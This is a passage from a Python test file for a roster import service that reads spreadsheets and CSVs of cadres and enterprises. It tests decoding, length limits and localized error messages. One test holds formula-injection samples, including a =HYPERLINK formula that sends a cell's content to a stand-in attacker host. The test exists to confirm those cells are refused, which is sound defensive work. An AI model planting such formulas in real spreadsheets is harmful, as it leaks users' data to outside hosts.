    report = await service.import_files([SAMPLES / "roster.xlsx", SAMPLES / "roster.xlsx"])
    assert report.enterprises_created == 30


def test_cell_text() -> None:
    assert cell_text(123456789.0) == "123456789"
    assert cell_text(13912345678) == "13912345678"
    assert cell_text(2.5) == "2.5"
    assert cell_text(None) == ""
    assert cell_text("  \u200b甲\u3000") == "甲"


def test_read_roster_file_reports_sheet_and_header_row(tmp_path: Path) -> None:
    path = write_xlsx(tmp_path / "x.xlsx", {"干部": [[], C_HEAD, ["甲", 13900000001.0]]})
    result = read_roster_file(path)
    assert not result.issues
    (table,) = result.tables
    assert (table.sheet, table.rows[0].row, table.rows[0].get("phone")) == (
        "干部",
        3,
        "13900000001",
    )


# -- English -----------------------------------------------------------------------------------


async def test_english_messages(service: RosterService, tmp_path: Path) -> None:
    cad = cadres_csv(tmp_path, ["甲", "12", "boss", "乙", "x1"])
    ent = enterprises_csv(tmp_path, ["丙公司", "123", "", "", "丁", "", ""])
    problems = await refused(service, [cad, ent, tmp_path / "nope.csv"], locale="en")
    text = "\n".join(p.message for p in problems)
    assert "Phone “12” is malformed" in text
    assert "Role “boss” is not valid" in text
    assert "Telegram ID “x1” is not valid" in text
    assert "it must have 18 characters, this one has 3" in text
    assert "File not found" in text
    assert "请" not in text and "：" not in text  # no Chinese template slipped through


async def test_english_report(service: RosterService) -> None:
    report = await service.import_files([SAMPLES / "roster.xlsx"], locale="en")
    lines = report.lines("en")
    assert "Enterprises: 30 created, 0 updated, 0 unchanged" in lines
    assert "Cadres: 13 created, 0 updated, 0 unchanged" in lines
    assert isinstance(report, RosterReport)


# -- hostile and oversized cells ---------------------------------------------------------------


async def test_formula_like_text_is_refused_naming_row_and_column(
    service: RosterService, db: Database, tmp_path: Path
) -> None:
    cadres = cadres_csv(
        tmp_path,
        ["干部乙", "+86 139 0000 0002", "", "", ""],  # + begins a phone: fine
        ["=1+1", "", "", "", ""],
        ["干部丙", "", "", "@SUM(A1)", ""],
    )
    enterprises = enterprises_csv(
        tmp_path,
        ['=HYPERLINK("http://evil.example/?"&B2,"查看")', "", "", "", "干部乙", "", ""],
        ["好企业", "", "+制造业", "-一网格", "干部乙", "@干部丙", ""],
    )
    problems = await refused(service, [cadres, enterprises])
    assert cells(problems) == {
        (3, "姓名"),
        (4, "上级"),
        (2, "企业名称"),
        (3, "行业"),
        (3, "网格"),
        (3, "备用干部"),
    }
    hyperlink = next(p for p in problems if p.column == "企业名称")
    assert "=HYPERLINK" in hyperlink.message and "公式" in hyperlink.message
    assert await counts(db) == {"cadres": 0, "enterprises": 0, "assignments": 0, "contacts": 0}


async def test_field_lengths_are_bounded_per_row(
    service: RosterService, db: Database, tmp_path: Path
) -> None:
    cadres = cadres_csv(
        tmp_path,
        ["干部乙", "", "", "", ""],
        ["长" * 31, "", "", "", ""],
        ["干部丙", "1" * 41, "", "", ""],
    )
    enterprises = enterprises_csv(
        tmp_path,
        ["企" * 101, "", "", "", "", "", ""],
        ["甲企业", "9" * 31, "行" * 51, "网" * 51, "干部乙", "", ""],
    )
    problems = await refused(service, [cadres, enterprises])
    assert cells(problems) == {
        (3, "姓名"),
        (4, "电话"),
        (2, "企业名称"),
        (3, "统一社会信用代码"),
        (3, "行业"),
        (3, "网格"),
    }
    long_name = next(p for p in problems if p.column == "企业名称")
    assert "101" in long_name.message and "100" in long_name.message
    assert "企" * 101 not in long_name.message  # the message never echoes a huge cell
    assert await counts(db) == {"cadres": 0, "enterprises": 0, "assignments": 0, "contacts": 0}
    # At the limits, the same rows import.
    cadres = cadres_csv(tmp_path, ["干部乙", "", "", "", ""], ["长" * 30, "", "", "", ""])
    enterprises = enterprises_csv(
        tmp_path, ["企" * 100, "", "行" * 50, "网" * 50, "干部乙", "", ""]
    )
    await service.import_files([cadres, enterprises])
    assert (await counts(db))["enterprises"] == 1


async def test_big5_roster_is_read_correctly_not_as_mojibake(
    service: RosterService, db: Database, tmp_path: Path
) -> None:
    traditional = ["姓名", "電話", "角色", "上級", "TelegramID"]
    rows = [traditional, ["陳志遠", "", "分管領導", "", ""], ["黃麗華", "", "", "陳志遠", ""]]
    path = write_csv(tmp_path / "big5.csv", rows, "big5")
    with pytest.raises(UnicodeDecodeError):
        path.read_bytes().decode("utf-8")
    assert "陳志遠" not in path.read_bytes().decode("gb18030")  # what was imported before
    await service.import_files([path])
    async with db.transaction():
        found = await db.fetchall("SELECT name, role FROM cadres ORDER BY id")
    assert [tuple(r) for r in found] == [("陳志遠", "leader"), ("黃麗華", "cadre")]


def test_undecodable_or_implausible_csv_is_refused() -> None:
    big5 = "企業名稱,行業\n海澄精工機械有限公司,機械製造\n".encode("big5")
    assert decode_csv(big5) == "企業名稱,行業\n海澄精工機械有限公司,機械製造\n"
    gbk = "企业名称,行业\n海澄精工机械有限公司,机械制造\n".encode("gbk")
    assert decode_csv(gbk) == "企业名称,行业\n海澄精工机械有限公司,机械制造\n"
    # Bytes that GB18030 decodes but that read as rare characters only: not a roster.
    assert decode_csv(bytes(range(0x81, 0xFF)) * 3) is None


def test_column_letters_are_the_spreadsheets_own() -> None:
    from openpyxl.utils import get_column_letter

    from bot.services.roster.tables import column_letter

    assert [column_letter(n) for n in (1, 26, 27, 52, 53, 702, 703, 16384)] == [
        "A",
        "Z",
        "AA",
        "AZ",
        "BA",
        "ZZ",
        "AAA",
        "XFD",
    ]
    assert all(
        column_letter(n) == get_column_letter(n) for n in range(1, 18279)
    )  # openpyxl stops at ZZZ
